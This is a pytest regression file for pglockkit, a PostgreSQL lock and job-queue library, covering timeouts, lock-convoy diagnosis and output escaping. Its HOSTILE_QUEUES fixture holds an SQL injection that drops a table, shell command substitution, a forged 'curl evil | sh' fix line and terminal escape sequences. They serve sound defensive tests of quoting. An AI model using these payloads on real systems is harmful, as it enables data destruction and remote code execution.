"""Faults that adversarial passes and newcomers' runs found, each as a user met it: a test per
fault, named for what it survives, that failed on the code before its fix. Each runs on both
servers."""

from __future__ import annotations

import asyncio
import os
import re
import shlex
import subprocess
import sys
import threading
import time
from pathlib import Path

import psycopg
import pytest
from scenarios import cli

import pglockkit
import pglockkit.aio as aio
from pglockkit import _format as fmt
from pglockkit import monitor
from pglockkit import queue as q
from pglockkit.leases import Lease, acquire_lease

# --- idle_in_transaction_session_timeout ------------------------------------------------------

IDLE_IN_TRANSACTION_MS = 250  # what a DBA sets against bloat (managed services ship one too)
WAIT = 0.6  # a handler's wait on an API, outside the database: longer than the timeout


@pytest.fixture
def timed_out_idle(db):
    """A database whose sessions are ended when idle in a transaction for 250 ms, and a table for
    the handlers' effects."""
    db.conn.execute("CREATE TABLE effects (job_id bigint, n int)")
    db.conn.execute(
        f'ALTER DATABASE "{db.conn.info.dbname}" '
        f"SET idle_in_transaction_session_timeout = {IDLE_IN_TRANSACTION_MS}"
    )
    return db


def _handlers(grouped: bool):
    """A sync and an async handler. ``grouped``: every sixth job waits before its one write, in a
    group whose transaction is open (the server sees it idle in transaction meanwhile). Else
    each job writes, waits, writes again: alone, its transaction began with the first write."""

    def sync(job, conn):
        if not grouped:
            conn.execute("INSERT INTO effects VALUES (%s, 1)", (job.id,))
        if job.payload["slow"]:
            time.sleep(WAIT)
        conn.execute("INSERT INTO effects VALUES (%s, 2)", (job.id,))

    async def asynchronous(job, conn):
        if not grouped:
            await conn.execute("INSERT INTO effects VALUES (%s, 1)", (job.id,))
        if job.payload["slow"]:
            await asyncio.sleep(WAIT)
        await conn.execute("INSERT INTO effects VALUES (%s, 2)", (job.id,))

    return sync, asynchronous


@pytest.mark.parametrize("grouped", [True, False], ids=["in-a-group", "alone"])
@pytest.mark.parametrize("asynchronous", [False, True], ids=["threads", "asyncio"])
def test_a_slow_job_survives_the_servers_idle_in_transaction_timeout_and_so_does_its_group(
    timed_out_idle, caplog, asynchronous, grouped
):
    """With the database's idle_in_transaction_session_timeout at 250 ms, a handler that waited
    600 ms on an API got its lane's session ended: the group rolled back ("lane error, group
    rolled back (terminating connection due to idle-in-transaction timeout)"), its jobs came back
    only by their lease, each losing an attempt, and fast jobs that never failed ended dead. The
    worker's own transactions now turn the timeout off for themselves: every job is done at its
    first attempt, its effects written once, with no lane error."""
    db = timed_out_idle
    caplog.set_level("WARNING", "pglockkit.queue")
    ids = q.enqueue_many(db.conn, "w", [{"slow": i % 6 == 5} for i in range(24)])
    sync, async_handler = _handlers(grouped)
    # group_time: grouped, every job after the first runs in a group; else each runs alone.
    options = {"concurrency": 2, "group_time": 30.0 if grouped else 0.0}
    if asynchronous:
        worker = aio.Worker(db.dsn, "w", async_handler, **options)
        runner = threading.Thread(target=lambda: asyncio.run(worker.run(exit_when_idle=True)))
    else:
        worker = pglockkit.Worker(db.dsn, "w", sync, **options)
        runner = threading.Thread(target=lambda: worker.run(exit_when_idle=True))
    runner.start()
    runner.join(60)
    assert not runner.is_alive()
    rows = db.conn.execute(
        "SELECT status, attempt, count(*) FROM pglockkit.jobs WHERE id = ANY(%s) GROUP BY 1, 2", (ids,)
    ).fetchall()
    assert rows == [("done", 1, 24)], [r.getMessage() for r in caplog.records]
    writes = db.conn.execute("SELECT count(*), count(DISTINCT (job_id, n)) FROM effects").fetchone()
    assert writes == ((24, 24) if grouped else (48, 48))
    assert worker.reconnects == 0
    assert not [r.getMessage() for r in caplog.records if "lane error" in r.getMessage()]
    # The timeout was off for the worker's transactions only: a session of the worker's role
    # still gets the database's value.
    with db.connect() as other:
        assert other.execute("SHOW idle_in_transaction_session_timeout").fetchone()[0] == "250ms"


def test_session_lock_and_lease_holders_hold_no_transaction_the_timeout_could_end(timed_out_idle, ns):
    """sole_writer, run_once and a session-bound lease keep what they hold on connections of
    their own that are idle between calls, never idle in a transaction: the database's
    idle_in_transaction_session_timeout does not end them while their blocks run."""
    db = timed_out_idle
    holders = ("pglockkit sole_writer%", "pglockkit run %", "pglockkit lease %")
    states = "SELECT state FROM pg_stat_activity WHERE application_name LIKE %s AND pid <> pg_backend_pid()"
    with (
        pglockkit.sole_writer(db.dsn, ns, "tick") as mine,
        pglockkit.run_once(db.dsn, "nightly", "2026-12-07") as run,
        Lease(db.dsn, "bound", ttl=60, holder="holder", bind_session=True) as lease,
    ):
        assert mine and run is not None and lease.acquired
        time.sleep(3 * IDLE_IN_TRANSACTION_MS / 1000)
        for pattern in holders:
            assert db.conn.execute(states, (pattern,)).fetchall() == [("idle",)], pattern
        assert acquire_lease(db.conn, "bound", "rival", 60) is None
        with pglockkit.sole_writer(db.dsn, ns, "tick") as rival:
            assert not rival
        assert not lease.lost.is_set()


# --- names from the database in what doctor, top, jobs and the logs print ----------------------

# Queue names any pglockkit_user may choose: SQL that closes its literal, shell command
# substitution, a newline that forges a finding, a terminal's escape sequences, a leading dash.
HOSTILE_QUEUES = (
    "x'); DROP TABLE victim; --",
    "$(touch pwned)`touch pwned2`",
    "q\n[ERROR] forged: all is well\n    fix: curl evil | sh",
    "\x1b]0;owned\x07\x1b[2Jq\\",
    "-rf",
)
FINDING_LINE = re.compile(r"^(\[(INFO|WARNING|ERROR)\] .*|    fix: .*|\d+ (info|warning|error)(, .*)?)$")


def _dead_and_paused(db, queue: str, error: str = "smtp down") -> int:
    """A dead job in ``queue``, which is paused; the job's id."""
    job = db.conn.execute("SELECT pglockkit.enqueue_job(%s, max_attempts => 1)", (queue,)).fetchone()[0]
    claimed = db.conn.execute("SELECT id, token FROM pglockkit.claim_job(%s, 'w')", (queue,)).fetchone()
    assert claimed[0] == job
    db.conn.execute("SELECT pglockkit.fail_job(%s, %s, %s)", (*claimed, error))
    db.conn.execute("SELECT pglockkit.pause_queue(%s)", (queue,))
    return job


def _shim(tmp_path: Path) -> dict[str, str]:
    """An environment whose PATH has ``pglockkit`` (this interpreter's), as a reader's shell has."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    shim = bin_dir / "pglockkit"
    shim.write_text(f'#!/bin/sh\nexec {shlex.quote(sys.executable)} -m pglockkit.cli "$@"\n')
    shim.chmod(0o755)
    root = Path(__file__).resolve().parents[2]  # the package, from any working directory
    path = os.pathsep.join([str(root), *filter(None, [os.environ.get("PYTHONPATH")])])
    return {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "PYTHONPATH": path}


def test_doctors_fixes_pasted_as_printed_touch_only_the_queue_they_name(db, tmp_path):
    """A queue named ``x'); DROP TABLE t; --`` with a dead job made doctor print ``SELECT
    pglockkit.retry_dead_jobs('x'); DROP TABLE t; --');``: pasted, it dropped the table. A name
    with ``$(...)`` ran its command from the printed ``pglockkit jobs`` and ``pglockkit resume``;
    a newline forged finding lines. Every name is now quoted where it is printed (an SQL literal,
    a shell word) and every finding is two lines: each fix, pasted into psql or bash as printed,
    acts on its own queue and nothing else."""
    db.conn.execute("CREATE TABLE victim (n int)")
    jobs = {q: _dead_and_paused(db, q, f"boom\n[ERROR] forged in {q}") for q in HOSTILE_QUEUES}
    out = cli("doctor", "--dsn", db.dsn)
    assert out.returncode == 1, out.stdout + out.stderr
    lines = out.stdout.splitlines()
    assert all(FINDING_LINE.match(line) for line in lines), lines
    assert not [c for c in out.stdout if not c.isprintable() and c != "\n"]
    fixes = [line.removeprefix("    fix: ") for line in lines if line.startswith("    fix: ")]
    dead = [f for f in fixes if f.startswith("Inspect last_error (")]
    resumes = [f for f in fixes if f.startswith("When it may run again: ")]
    assert len(dead) == len(resumes) == len(HOSTILE_QUEUES)

    env = _shim(tmp_path)
    for fix in dead:  # "Inspect last_error (CMD), fix, then SELECT pglockkit.retry_dead_jobs(LITERAL);"
        command, _, statement = fix.removeprefix("Inspect last_error (").partition("), fix, then ")
        env["PGLOCKKIT_DSN"] = db.dsn
        shown = subprocess.run(
            ["bash", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
        )
        assert shown.returncode == 0, shown.stderr
        _, *rows = shown.stdout.splitlines()
        assert len(rows) == 1 and rows[0].split()[0] in {str(j) for j in jobs.values()}, shown.stdout
        queue = next(q for q, j in jobs.items() if str(j) == rows[0].split()[0])
        assert statement.startswith("SELECT pglockkit.retry_dead_jobs(") and statement.endswith(");")
        retried = subprocess.run(
            ["psql", "-X", "-At", "-v", "ON_ERROR_STOP=1", db.dsn, "-c", statement],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert (retried.returncode, retried.stdout.strip()) == (0, "1"), retried.stderr
        status = db.conn.execute("SELECT status FROM pglockkit.jobs WHERE id = %s", (jobs[queue],)).fetchone()
        assert status == ("queued",), queue
    for fix in resumes:  # "When it may run again: CMD  (or SELECT ...;)"
        command = fix.removeprefix("When it may run again: ").partition("  (or SELECT ")[0]
        resumed = subprocess.run(
            ["bash", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
        )
        assert resumed.returncode == 0, resumed.stderr
        assert resumed.stdout.endswith(": resumed\n"), resumed.stdout
    assert not list(tmp_path.glob("pwned*"))
    assert db.conn.execute("SELECT count(*) FROM victim").fetchone() == (0,)  # still there
    paused = db.conn.execute("SELECT count(*) FROM pglockkit.queue_stats WHERE paused").fetchone()
    assert paused == (0,)


def test_top_and_jobs_print_hostile_names_and_errors_one_line_each_with_no_escape_sequence(db):
    """``top`` printed a queue's name as it was: a newline broke its table, and ESC sequences in
    a name (or a query, an application_name) reached the reader's terminal (clear the screen,
    retitle the window). ``jobs`` did the same with a job's last_error."""
    for queue in HOSTILE_QUEUES:
        _dead_and_paused(db, queue, "boom\n\x1b[2J[ERROR] forged")
    with db.connect() as holder:
        holder.execute("SET application_name = 'app\x1b[2J'")  # the server keeps printable ASCII only
        holder.execute("SELECT pg_advisory_lock(42) /* \x1b]0;owned\x07 */")
        frame = monitor.render_top(db.conn, width=200)
    assert not [c for c in frame if not c.isprintable() and c != "\n"], frame
    section = frame.split("QUEUES (")[1].split("\n\n")[0].splitlines()
    assert section[0] == f"{len(HOSTILE_QUEUES)})" and len(section) == 2 + len(HOSTILE_QUEUES), section
    for queue in HOSTILE_QUEUES:
        out = cli("jobs", "--status", "dead", "--dsn", db.dsn, "--", queue)
        assert out.returncode == 0, out.stderr
        assert len(out.stdout.splitlines()) == 2, out.stdout  # its header and its one job
        assert "\x1b" not in out.stdout and "boom\\x0a\\x1b[2J[ERROR] forged" in out.stdout


def test_a_name_with_a_newline_forges_no_log_line(db):
    """The command line's log lines carry names (a run's job, a lock's namespace and resource, a
    queue's): a newline in one made a line of its own that looked like the kit's."""
    job = "nightly\n2026-12-07 00:00:00,000 pglockkit.runs run succeeded job=forged"
    out = cli("-v", "once", job, "--slot", "s", "--dsn", db.dsn, "--", "true")
    assert out.returncode == 0, out.stderr
    lines = out.stderr.splitlines()
    logged = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} pglockkit\.")
    assert lines and all(logged.match(line) for line in lines), lines
    assert not [line for line in lines if "job=forged" in line and "nightly\\x0a" not in line], lines


@pytest.mark.parametrize(
    "text", [*HOSTILE_QUEUES, "a\\nb", "tab\there", "r\u202eevil", "emoji \U0001f600", "Upper", ""]
)
def test_quoted_names_read_back_as_the_name_in_the_server_and_in_bash(db, text):
    """What doctor's fixes are made of: ``sql_literal``, ``sql_ident`` and ``shell_word`` give back
    the text itself, read by the server and by bash."""
    assert db.conn.execute(f"SELECT {fmt.sql_literal(text)}").fetchone() == (text,)
    if text:  # an identifier is never empty
        cur = db.conn.execute(f"SELECT 1 AS {fmt.sql_ident(text)}")
        assert cur.description[0].name == text
    word = fmt.shell_word(text) if text else "''"
    echoed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, timeout=10)
    assert echoed.stdout.decode() == text
    assert "\n" not in fmt.sql_literal(text) + fmt.shell_word(text or "x") + fmt.printable(text)


# --- doctor: a transaction left open, and the convoy behind it ----------------------------------


def _agents_waiting(db, n: int, statement: str) -> list[tuple[psycopg.Connection, threading.Thread]]:
    """``n`` sessions that run ``statement`` in threads and are left blocked on it."""
    waiters = []
    for i in range(n):
        conn = db.connect()
        conn.execute(f"SET application_name = 'agent-{i}'")
        thread = threading.Thread(target=conn.execute, args=(statement,), daemon=True)
        thread.start()
        waiters.append((conn, thread))
    deadline = time.monotonic() + 10
    while db.conn.execute("SELECT count(*) FROM pglockkit.lock_waits").fetchone()[0] < n:
        assert time.monotonic() < deadline, "the agents did not all wait"
        time.sleep(0.02)
    return waiters


def _findings(text: str, check: str) -> list[tuple[str, str]]:
    """(message, fix) of each finding of ``check`` in doctor's output."""
    lines = text.splitlines()
    return [
        (line.split(f"{check}: ", 1)[1], lines[i + 1].removeprefix("    fix: "))
        for i, line in enumerate(lines)
        if re.match(rf"\[\w+\] {re.escape(check)}: ", line)
    ]


def test_doctor_names_a_transaction_left_open_and_the_convoy_behind_it(db):
    """One session ran ``BEGIN; SELECT xact_lock('billing', 'invoice:7')`` and sat idle in its
    transaction; three agents waited behind it. doctor called the holder a session lock left on
    a pooled connection, to be released with pglockkit.unlock (which cannot release a transaction
    lock), and said nothing of the three waiting. Now it reports the convoy: its size, its longest
    wait, the lock, the root's state and query, and the fix for a transaction left open."""
    db.conn.execute("SELECT pglockkit.register_namespace('billing')")
    with db.connect() as holder:
        pid = holder.info.backend_pid
        holder.execute("SET application_name = 'invoice-job'")
        holder.execute("BEGIN")
        holder.execute("SELECT pglockkit.xact_lock('billing', 'invoice:7')")  # then idle in transaction
        key = holder.execute("SELECT pglockkit.lock_key('billing', 'invoice:7')").fetchone()[0]
        waiters = _agents_waiting(db, 3, "SELECT pglockkit.xact_lock('billing', 'invoice:7', '40s')")
        time.sleep(1.2)
        out = cli("doctor", "--dsn", db.dsn, "--idle-after", "1s", "--wait-after", "1s").stdout
        holder.execute("ROLLBACK")
        for conn, thread in waiters:
            thread.join(10)
            conn.close()
    (message, fix), *others = _findings(out, "lock convoy")
    assert not others, out
    assert message.startswith(f"3 session(s) wait behind pid {pid} (invoice-job), the longest for "), message
    assert f"on billing/{key}; it is idle in transaction for " in message
    assert "; last query: SELECT pglockkit.lock_key('billing', 'invoice:7')" in message
    assert fix.startswith("Commit or roll back that transaction where it was opened")
    assert "idle_in_transaction_session_timeout" in fix and f"pg_terminate_backend({pid})" in fix
    assert "session lock left" not in out and "idle lock holder" not in out, out  # not misread


def test_doctor_tells_a_transaction_left_open_from_an_idle_sessions_lock(db, ns):
    """With no one waiting: a lock held by a session idle in a transaction is the transaction's
    (commit or roll back it); one held by a session idle outside any is a session lock (unlock
    it). doctor gave both the second diagnosis."""
    with db.connect() as open_tx, db.connect() as leaked:
        open_pid, leaked_pid = open_tx.info.backend_pid, leaked.info.backend_pid
        open_tx.execute("BEGIN")
        open_tx.execute("SELECT pglockkit.xact_lock(%s, 'a')", (ns,))
        leaked.execute("SELECT pglockkit.try_lock(%s, 'b')", (ns,))
        time.sleep(0.3)
        out = cli("doctor", "--dsn", db.dsn, "--idle-after", "0.2s").stdout
    (open_message, open_fix), *more = _findings(out, "transaction left open")
    (idle_message, idle_fix), *others = _findings(out, "idle lock holder")
    assert not more and not others, out
    assert f"pid {open_pid} " in open_message and "in a transaction left open" in open_message
    assert open_fix.startswith("Commit or roll back") and "pglockkit.unlock cannot release it" in open_fix
    assert f"pid {leaked_pid} " in idle_message and "so a session lock" in idle_message
    assert idle_fix.startswith("Release it where it was taken (pglockkit.unlock)")


def test_doctor_reports_a_swarm_serialized_behind_one_busy_holder_without_sampling(db):
    """Seed 001's serialized swarm: one agent runs a slow statement under one global lock and
    the rest queue behind it. The holder is active, not idle, so doctor said nothing until
    --held-after (10 minutes, and only where sample() runs). The convoy is reported at once."""
    db.conn.execute("SELECT pglockkit.register_namespace('agents')")
    with db.connect() as busy:
        pid = busy.info.backend_pid
        busy.execute("SET application_name = 'planner'")
        slow = threading.Thread(
            target=busy.execute,
            args=("SELECT pglockkit.xact_lock('agents', 'global'), pg_sleep(4)",),
            daemon=True,
        )
        slow.start()
        deadline = time.monotonic() + 5
        held = "SELECT count(*) FROM pglockkit.advisory_locks WHERE granted AND pid = %s"
        while not db.conn.execute(held, (pid,)).fetchone()[0]:
            assert time.monotonic() < deadline
            time.sleep(0.02)
        waiters = _agents_waiting(db, 4, "SELECT pglockkit.xact_lock('agents', 'global', '30s')")
        time.sleep(1.2)
        out = cli("doctor", "--dsn", db.dsn, "--wait-after", "1s").stdout
        assert db.conn.execute("SELECT count(*) FROM pglockkit.sampling").fetchone() == (0,)
        slow.join(10)
        for conn, thread in waiters:
            thread.join(10)
            conn.close()
    (message, fix), *others = _findings(out, "lock convoy")
    assert not others, out
    assert message.startswith(f"4 session(s) wait behind pid {pid} (planner)"), message
    assert "it is active for " in message and "; query: SELECT pglockkit.xact_lock('agents'" in message
    assert f"pg_cancel_backend({pid})" in fix


def test_doctor_reports_no_convoy_for_waits_shorter_than_wait_after(db, ns):
    with db.connect() as holder:
        holder.execute("BEGIN")
        holder.execute("SELECT pglockkit.xact_lock(%s, 'a')", (ns,))
        waiters = _agents_waiting(db, 1, f"SELECT pglockkit.xact_lock('{ns}', 'a', '30s')")
        out = cli("doctor", "--dsn", db.dsn, "--wait-after", "30s").stdout
        holder.execute("ROLLBACK")
        for conn, thread in waiters:
            thread.join(10)
            conn.close()
    assert "lock convoy" not in out, out


# --- unlock of a lock not held ----------------------------------------------------------------


def test_unlock_of_a_lock_not_held_sends_its_error_alone_not_the_servers_warning_first(db, ns):
    """``unlock`` of a lock not held raises 55000, as documented, but the server's own ``WARNING:
    you don't own a lock of type ExclusiveLock`` reached the client first (ruby-pg printed it):
    the noise that teaches people to ignore lock messages. Now the error comes alone, whatever
    the session's client_min_messages, which the call leaves as it was."""
    notices: list[str] = []
    with db.connect() as conn, db.connect() as other:
        conn.add_notice_handler(lambda diag: notices.append(f"{diag.severity}: {diag.message_primary}"))
        conn.execute("SET client_min_messages = debug1")
        assert other.execute("SELECT pglockkit.try_lock(%s, 'theirs')", (ns,)).fetchone() == (True,)
        for resource in ("never-taken", "theirs"):
            with pytest.raises(psycopg.errors.ObjectNotInPrerequisiteState, match="is not held"):
                conn.execute("SELECT pglockkit.unlock(%s, %s)", (ns, resource))
        with conn.transaction():  # held by this session, but as a transaction lock
            conn.execute("SELECT pglockkit.xact_lock(%s, 'mine')", (ns,))
            with pytest.raises(psycopg.errors.ObjectNotInPrerequisiteState), conn.transaction():
                conn.execute("SELECT pglockkit.unlock(%s, 'mine')", (ns,))
        with pytest.raises(psycopg.errors.ObjectNotInPrerequisiteState):
            conn.execute("SELECT pglockkit.unlock(%s, 42::bigint)", (ns,))
        assert conn.execute("SHOW client_min_messages").fetchone() == ("debug1",)
    assert not [n for n in notices if n.startswith("WARNING")], notices
